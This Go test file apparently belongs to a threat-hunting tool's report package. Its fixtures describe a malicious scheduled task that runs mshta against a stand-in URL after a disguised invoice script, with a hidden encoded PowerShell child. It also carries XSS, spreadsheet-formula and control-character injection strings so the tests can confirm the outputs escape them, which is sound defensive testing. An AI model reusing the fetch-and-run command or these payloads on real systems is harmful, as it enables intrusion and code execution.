package report_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"os"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/goshawk-hunt/goshawk/finding"
	"github.com/goshawk-hunt/goshawk/hunt"
	"github.com/goshawk-hunt/goshawk/report"
)

// at returns a time on the sample's day.
func at(clock string) finding.Time {
	t, err := time.Parse(time.RFC3339Nano, "2024-05-14T"+clock+"Z")
	if err != nil {
		panic(err)
	}
	return finding.Time{Time: t}
}

// sample is a case with an ordinary, a hostile and a quiet finding.
func sample() report.Data {
	loader := finding.Finding{
		ID: "0011223344556677", Title: `Task \OneDrive Sync Helper runs mshta.exe https://cdn.updates.example/x.hta`,
		Reasons: []finding.Reason{
			{Points: 30, Property: finding.Action, Text: "runs mshta.exe, a program of Windows that runs what others bring"},
			{Points: 30, Property: finding.Action, Text: "names an address on the network"},
			{Points: 35, Property: finding.Creator, Text: "the one who asked was started by a script host: wscript.exe"},
			{Points: 12, Property: finding.Trigger, Text: "repeats every 5 minutes"},
			{Points: 15, Property: finding.Rarity, Text: "seen on 1 of 50 devices (37 runs)"},
		},
		Hunts: []finding.Hunt{{ID: "rare-task-creation", Name: "Rare scheduled task created", Rows: 1, Query: "ScheduledTaskEvents\n| where Operation == \"created\""},
			{ID: "rare-task-execution", Name: "Rare process started by the Task Scheduler", Rows: 37, Query: "DeviceProcessEvents\n| take 1"}},
		Techniques: []string{"T1053.005", "T1218.005"}, Devices: []string{"wks-017.corp.example"}, Accounts: []string{`corp\m.ruiz`},
		Task: &finding.Task{Name: `\OneDrive Sync Helper`, Actions: []finding.TaskAction{{Kind: "Exec", Command: "mshta.exe", Arguments: "https://cdn.updates.example/x.hta"}},
			Principal: `corp\m.ruiz`, RunLevel: "HighestAvailable", Starting: finding.Starting{Triggers: "TimeTrigger every PT5M", Schedule: "every 5 minutes"}, Created: at("09:12:41.1234567"), CreatedBy: `corp\m.ruiz`,
			Definition: "<Task version=\"1.2\">\n  <Actions><Exec><Command>mshta.exe</Command></Exec></Actions>\n</Task>"},
		Processes: []finding.Process{
			{Role: "creator", FileName: "schtasks.exe", CommandLine: `schtasks.exe /create /tn "OneDrive Sync Helper" /tr "mshta.exe https://cdn.updates.example/x.hta" /sc minute /mo 5`, Parent: `wscript.exe "C:\Users\m.ruiz\Downloads\invoice.pdf.js"`},
			{Role: "started", FileName: "mshta.exe", CommandLine: `mshta.exe https://cdn.updates.example/x.hta`},
			{Role: "child", FileName: "powershell.exe", CommandLine: `powershell.exe -w hidden -enc SQBFAFgAIAAoAE4A`},
		},
		First: at("09:12:41.1234567"), Last: at("12:17:03.5"),
		Evidence: []finding.Row{{Hunt: "rare-task-creation", Columns: []finding.Field{{Name: "TaskName", Value: `\OneDrive Sync Helper`}}}},
	}
	loader.Timeline = []finding.Moment{
		{Time: at("09:12:40.9"), Device: "wks-017.corp.example", What: `asked for: schtasks.exe /create /tn "OneDrive Sync Helper"`, Source: finding.Source{Table: "DeviceProcessEvents", Record: "4711"}},
		{Time: at("09:12:41.1234567"), Device: "wks-017.corp.example", What: "task created", Source: finding.Source{Table: "DeviceEvents", Record: "4712"}},
	}
	for _, c := range []string{"09:17:41", "09:22:41", "09:27:41", "10:02:41", "11:07:41"} {
		loader.Timeline = append(loader.Timeline, finding.Moment{Time: at(c), Device: "wks-017.corp.example", What: "started by the Task Scheduler: mshta.exe https://cdn.updates.example/x.hta", Source: finding.Source{Table: "DeviceProcessEvents"}})
	}
	loader.Timeline = append(loader.Timeline, finding.Moment{Time: at("12:17:03.5"), Device: "wks-017.corp.example", What: "connected to 203.0.113.7:443", Source: finding.Source{Table: "DeviceNetworkEvents"}})
	hostile := finding.Finding{
		ID: "8899", Title: "Task \\upd\u202egpj.exe\x1b[2J</script><img src=x onerror=alert(1)>",
		Reasons:  []finding.Reason{{Points: 45, Property: finding.Name, Text: "its name holds an invisible character (U+202E)"}},
		Hunts:    []finding.Hunt{{ID: "x", Name: "</textarea><script>alert(2)</script>", Query: "T"}},
		Devices:  []string{"=cmd|' /C calc'!A0", "wks-018"},
		Task:     &finding.Task{Name: "\\upd\u202egpj.exe", Actions: []finding.TaskAction{{Command: "@SUM(1+1)"}}},
		Evidence: []finding.Row{{Hunt: "x", Columns: []finding.Field{{Name: "A", Value: "\xff\xfe<b>"}}}},
		First:    at("10:00:00"), Last: at("10:00:00"),
	}
	loader.Dossier = &finding.Dossier{Devices: loader.Devices,
		Nodes: []finding.Node{
			{Kind: finding.ProcessNode, Role: "creator", Label: "schtasks.exe", PID: 7, Detail: "schtasks.exe /create"}, {Kind: finding.TaskNode, Label: `\OneDrive Sync Helper`},
			{Kind: finding.ProcessNode, Role: "started", Label: "mshta.exe", PID: 8}, {Kind: finding.HostNode, Label: "192.0.2.1"}, {Kind: finding.AccountNode, Label: "m.ruiz", Detail: "network logon 0x5"},
		},
		Edges: []finding.Edge{
			{Chapter: finding.Origin, From: 3, To: 4, Verb: "logged on from", Time: at("09:12:40"), Confidence: finding.Likely, Why: "the logon says so", Proof: []finding.Source{{Table: "DeviceLogonEvents", Record: "1"}}},
			{Chapter: finding.Origin, From: 4, To: 0, Verb: "ran", Time: at("09:12:41"), Confidence: finding.Certain, Why: "same logon"},
			{Chapter: finding.Origin, From: 0, To: 1, Verb: "asked to create", Time: at("09:12:41"), Confidence: finding.Certain, Why: "its command line names the task"},
			{Chapter: finding.Execution, From: 1, To: 2, Verb: "started", Time: at("09:17:41"), Confidence: finding.Possible, Why: "only the time fits"},
		},
		Effects: []finding.Effect{{Process: 2, Kind: "network", What: "connected to 203.0.113.7:443", Count: 3, Confidence: finding.Certain}},
		Runs:    []finding.Run{{Began: at("09:17:41"), Ended: at("09:17:42"), Cause: "a time", Action: "mshta.exe", PID: 8, Result: "0x0, success", Confidence: finding.Certain}},
		Gaps:    []finding.Gap{{Chapter: finding.End, Text: "no event of its removal: it may still be there"}},
	}
	bad := "\u202e</text><script>alert(3)</script>\x1b"
	hostile.Dossier = &finding.Dossier{Devices: hostile.Devices, // two processes that name each other, as ids used again do
		Nodes: []finding.Node{{Kind: finding.ProcessNode, Label: bad, Detail: bad, Account: bad, Device: bad}, {Kind: finding.ProcessNode, Label: "circle.exe"}, {Kind: finding.TaskNode, Label: bad}},
		Edges: []finding.Edge{{Chapter: finding.Origin, From: 0, To: 1, Verb: bad, Why: bad, Confidence: finding.Certain}, {Chapter: finding.Origin, From: 1, To: 0, Verb: "started", Why: bad},
			{Chapter: finding.End, From: 0, To: 2, Verb: "deleted", Why: bad, Proof: []finding.Source{{Table: bad, Record: bad}}}},
		Effects:     []finding.Effect{{Process: 0, Kind: "file", What: bad}},
		Definitions: []finding.Definition{{How: bad, By: bad, Starting: finding.Starting{Triggers: bad, Schedule: bad}, Changes: []string{bad}}},
		Gaps:        []finding.Gap{{Text: bad, Hint: bad}},
	}
	quiet := finding.Finding{ID: "aa", Title: `Task \GoogleUpdateTaskMachineUA`, Hunts: []finding.Hunt{{ID: "rare-task-creation"}}, Devices: []string{"wks-001"},
		Reasons: []finding.Reason{{Points: 10, Property: finding.Privilege, Text: "runs as SYSTEM"}, {Points: -10, Property: finding.Action, Text: "agrees with a known task"}}, Known: "the known task \\GoogleUpdateTaskMachineUA (Chrome)"}
	fs := []finding.Finding{loader, hostile, quiet}
	for i := range fs {
		fs[i].Grade()
	}
	finding.Sort(fs)
	return report.Data{
		Title: "case-2024-05 <&>", Version: "0.1", Written: at("15:00:00").Time, Now: at("12:17:03.5").Time, Clock: "last event of the evidence",
		Inputs: []report.Input{
			{Path: `wks-017\Security.evtx`, Format: "EVTX", Status: "read", Records: 48211, Bytes: 70 << 20},
			{Path: `wks-018\Sysmon.evtx`, Format: "EVTX", Status: "damaged", Records: 912, Bytes: 1 << 20, Notes: []string{"chunk 14 is cut off: 37 records lost"}},
			{Path: "notes.docx", Status: "refused", Bytes: 9000, Notes: []string{"not evidence: a Word document"}},
		},
		Result: &hunt.Result{Findings: fs,
			Outcomes: []hunt.Outcome{
				{ID: "rare-task-creation", Name: "Rare scheduled task created", Rows: 14, Findings: 2, Took: 12 * time.Millisecond, Sight: hunt.Runnable},
				{ID: "scriptblock", Name: "Script blocks that make tasks", Sight: hunt.Blind, Missing: []string{"script blocks: none of powershell in the case"}},
			},
			Coverage: hunt.Coverage{Hunts: []hunt.HuntCoverage{{ID: "scriptblock", Runnable: 31, Blind: 19}}, Devices: []hunt.DeviceCoverage{
				{Device: "wks-017.corp.example", First: at("08:00:00"), Last: at("13:00:00"), Kinds: map[string]int{"security-task": 14, "process": 48211},
					Sights: map[string]hunt.Sight{"a": hunt.Runnable, "b": hunt.Runnable, "c": hunt.Blind, "d": hunt.Unknown}},
				{Device: "wks-018", First: at("08:00:00"), Last: at("13:00:00"), Kinds: map[string]int{}},
			}},
		},
	}
}

func render(t *testing.T) string {
	t.Helper()
	var b bytes.Buffer
	if err := report.HTML(&b, sample()); err != nil {
		t.Fatal(err)
	}
	if path := os.Getenv("GOSHAWK_WRITE_REPORT"); path != "" {
		if err := os.WriteFile(path, b.Bytes(), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return b.String()
}

func TestHTMLLoadsNothingAndRunsNothing(t *testing.T) {
	html := render(t)
	for _, never := range []string{"<script", "<img", "<link", "<iframe", "javascript:", "@import", "url(", " onerror=\"", "\u202e", "\x1b", "</textarea>"} {
		if strings.Contains(html, never) {
			t.Errorf("the page contains %q", never)
		}
	}
	if m := regexp.MustCompile(`(?:src|href)="([^"#][^"]*)"`).FindStringSubmatch(html); m != nil {
		t.Errorf("the page refers to %q", m[1])
	}
	if m := regexp.MustCompile(`style="`).FindString(html); m != "" {
		t.Error("the page has a style attribute, which its policy forbids")
	}
}

func TestHTMLPolicyMatchesItsStyle(t *testing.T) {
	html := render(t)
	style := regexp.MustCompile(`(?s)<style>(.*?)</style>`).FindStringSubmatch(html)
	if style == nil {
		t.Fatal("no style")
	}
	sum := sha256.Sum256([]byte(style[1]))
	want := "sha256-" + base64.StdEncoding.EncodeToString(sum[:])
	policy := regexp.MustCompile(`Content-Security-Policy" content="([^"]*)"`).FindStringSubmatch(html)
	if policy == nil || !strings.Contains(strings.ReplaceAll(strings.ReplaceAll(policy[1], "&#43;", "+"), "&#39;", "'"), "'"+want+"'") {
		t.Errorf("policy %q doesn't allow the style with hash %s", policy, want)
	}
}

func TestHTMLTellsTheStory(t *testing.T) {
	html := render(t)
	for _, want := range []string{
		"1 finding to act on", "\\OneDrive Sync Helper", "names an address on the network", "U&#43;202E", "2024-05-14 09:12:41.1234567",
		"chunk 14 is cut off", "logged on:", "asked to create", "it may still be there", "c-possible", "circle.exe", "connected to 203.0.113.7:443 (3 times)", "used schtasks.exe to make the task", "not evidence: a Word document", "script blocks: none of powershell", "1 blind", "on devices: 31 runnable, 19 blind", `<td class="num">2</td><td class="num">0</td><td class="num">1</td>`, "case-2024-05 &lt;&amp;&gt;",
	} {
		if !strings.Contains(html, want) {
			t.Errorf("the page lacks %q", want)
		}
	}
}

func TestEmptyReport(t *testing.T) {
	var b bytes.Buffer
	if err := report.HTML(&b, report.Data{}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "Nothing found") {
		t.Error("an empty report doesn't say that nothing was found")
	}
}

func TestVisible(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"plain \\ text é 漢", "plain \\ text é 漢"},
		{"a\x1b[31mb", "a<U+001B>[31mb"},
		{"a\u202eb", "a<U+202E>b"},
		{"a\tb\r\nc", "a b  c"},
		{"a\xffb", "a<FF>b"},
		{"a\u009bb", "a<U+009B>b"},
		{"\U000e0041", "<U+E0041>"},
	} {
		if got := report.Visible(tt.in); got != tt.want {
			t.Errorf("Visible(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "\tx": "'\tx", "  =x": "'  =x", "\uff1dx": "'\uff1dx", "a=b": "a=b", "": "", "\\task": "\\task",
	} {
		if got := report.Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestExportsReadBack(t *testing.T) {
	fs := sample().Result.Findings
	var lines, sheet bytes.Buffer
	if err := report.JSONL(&lines, fs); err != nil {
		t.Fatal(err)
	}
	dec := json.NewDecoder(&lines)
	for i := range fs {
		var f finding.Finding
		if err := dec.Decode(&f); err != nil {
			t.Fatal(err)
		}
		if f.ID != fs[i].ID || f.Severity != fs[i].Severity || !f.First.Equal(fs[i].First.Time) {
			t.Errorf("finding %d reads back as %+v", i, f)
		}
	}
	if err := report.CSV(&sheet, fs); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&sheet).ReadAll()
	if err != nil || len(rows) != len(fs)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("cell %q begins like a formula", cell)
			}
		}
	}
}

func TestTableIsHarmless(t *testing.T) {
	var b bytes.Buffer
	if err := report.Table(&b, sample().Result.Findings, report.TableOptions{Width: 80}); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(b.String(), "\x1b\u202e") {
		t.Error("the table passes control characters on")
	}
	if !strings.Contains(b.String(), "+30") {
		t.Errorf("no reasons in the table:\n%s", b.String())
	}
	if err := report.Coverage(&b, sample().Result, report.TableOptions{}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "1 blind") {
		t.Error("the coverage doesn't count the blind hunt")
	}
}

func FuzzVisible(f *testing.F) {
	f.Add("a\x1b\u202e\xff")
	f.Fuzz(func(t *testing.T, s string) {
		for _, r := range report.Visible(s) {
			if r < 0x20 || r == 0x7f || r >= 0x202A && r <= 0x202E {
				t.Errorf("Visible(%q) keeps %U", s, r)
			}
		}
	})
}

func TestALifeAsText(t *testing.T) {
	fs := sample().Result.Findings
	var b bytes.Buffer
	for i := range fs {
		if err := report.Life(&b, &fs[i], 120); err != nil {
			t.Fatal(err)
		}
	}
	text := b.String()
	for _, want := range []string{"Who asked", "m.ruiz (network logon 0x5) logged on from 192.0.2.1 [DeviceLogonEvents #1]", "possible", "run started by a time", "not known: no event of its removal"} {
		if !strings.Contains(text, want) {
			t.Errorf("the life lacks %q:\n%s", want, text)
		}
	}
	for _, never := range []string{"\u202e", "\x1b"} {
		if strings.Contains(text, never) {
			t.Errorf("the life holds %q", never)
		}
	}
	for line := range strings.Lines(text) {
		if n := len([]rune(line)); n > 122 {
			t.Errorf("a line of %d characters: %s", n, line)
		}
	}
}
